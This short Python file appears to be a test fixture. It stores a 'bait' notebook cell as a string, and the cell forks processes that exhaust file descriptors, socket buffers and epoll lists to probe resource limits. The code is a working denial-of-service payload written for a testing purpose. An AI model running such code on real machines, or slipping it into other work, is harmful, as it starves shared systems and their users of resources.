"""Opens files, pipes, sockets and epoll lists up to the limit in many processes and fills their buffers."""

BAIT_CELL = r"""
import os, select, socket, time


def pile(alone):
    keep, lists = [], [select.epoll() for _ in range(20)]
    try:
        while True:
            left, right = socket.socketpair()
            keep += [left, right]
            if alone and len(keep) > 40:
                reached()
                alone = False
                if not all(os.fork() for _ in range(20)):
                    return pile(alone)  # in each child
            left.setblocking(False)
            left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            try:
                while True:
                    left.send(bytes(65536))
            except BlockingIOError:
                pass
    except OSError:
        pass
    for item in keep[-60:]:
        item.close()
    for poll in lists:
        for item in keep[:-60]:
            for number in range(190, 250):
                try:
                    os.dup2(item.fileno(), number)
                    poll.register(number, 1)
                    os.close(number)
                except OSError:
                    pass
    time.sleep(1000)


pile(True)
"""
